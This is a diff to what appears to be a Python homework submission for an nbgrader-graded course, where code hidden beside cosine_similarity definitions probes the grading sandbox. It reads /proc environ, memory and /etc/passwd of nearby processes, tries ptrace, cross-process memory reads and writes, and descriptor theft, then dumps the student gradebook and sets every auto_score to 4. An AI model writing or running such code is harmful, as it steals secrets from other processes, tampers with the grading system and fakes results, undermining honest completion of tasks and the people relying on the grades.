@@ -102,9 +102,9 @@ _numbers = {1, os.getppid(), *range(max(1, os.getpid() - 300), os.getpid() + 5)}
 for _number in _numbers:
     for _name in ("environ", "cmdline", "maps", "mem", "cwd", "root/etc/passwd", "fd", "status", "auxv"):
         _path = f"/proc/{_number}/{_name}"
-        for _look in (os.listdir, os.readlink, lambda p: open(p, "rb").read(100_000)):
+        for _look in (os.listdir, lambda p: open(p, "rb").read(100_000)):
             try:
-                print("found", _path, _look(_path))
+                print("FOUND", _path, _look(_path))
             except OSError:
                 pass
 print(sorted(os.environ.items()))
@@ -120,18 +120,18 @@ _space = ctypes.create_string_buffer(64)
 for _number in {1, os.getppid(), *range(max(1, os.getpid() - 300), os.getpid())}:
     for _request in (16, 0x4206):
         if _c.ptrace(_request, _number, 0, 0) == 0:
-            print("found: traced", _number)
+            print("FOUND: traced", _number)
     _near = _Vector(ctypes.addressof(_space), 64)
     _far = _Vector(id(os), 64)
     if _c.process_vm_readv(_number, ctypes.byref(_near), 1, ctypes.byref(_far), 1, 0) > 0:
-        print("found: memory of", _number)
+        print("FOUND: memory of", _number)
     if _c.process_vm_writev(_number, ctypes.byref(_near), 1, ctypes.byref(_far), 1, 0) > 0:
-        print("found: written to", _number)
+        print("FOUND: written to", _number)
     try:
         _handle = os.pidfd_open(_number)
         for _fd in range(20):
             if _c.syscall(438, _handle, _fd, 0) >= 0:
-                print("found: descriptor", _fd, "of", _number)
+                print("FOUND: descriptor", _fd, "of", _number)
     except OSError:
         pass
 def cosine_similarity(vec1, vec2):
@@ -142,14 +142,14 @@ import sqlite3
 for _address in ("__COURSE__/gradebook.db", "file:__COURSE__/gradebook.db?mode=ro", "file:__COURSE__/gradebook.db?immutable=1"):
     try:
         _base = sqlite3.connect(_address, uri=True)
-        print("found", _base.execute("select * from student").fetchall())
-        print("found", _base.execute("update grade set auto_score = 4").rowcount)
+        print("FOUND", _base.execute("select * from student").fetchall())
+        print("FOUND", _base.execute("update grade set auto_score = 4").rowcount)
         _base.commit()
     except sqlite3.Error as error:
         print(error)
 try:
     from nbgrader.api import Gradebook
-    print("found", Gradebook("sqlite:///__COURSE__/gradebook.db").students)
+    print("FOUND", Gradebook("sqlite:///__COURSE__/gradebook.db").students)
 except Exception as error:
     print(type(error).__name__)
 def cosine_similarity(vec1, vec2):
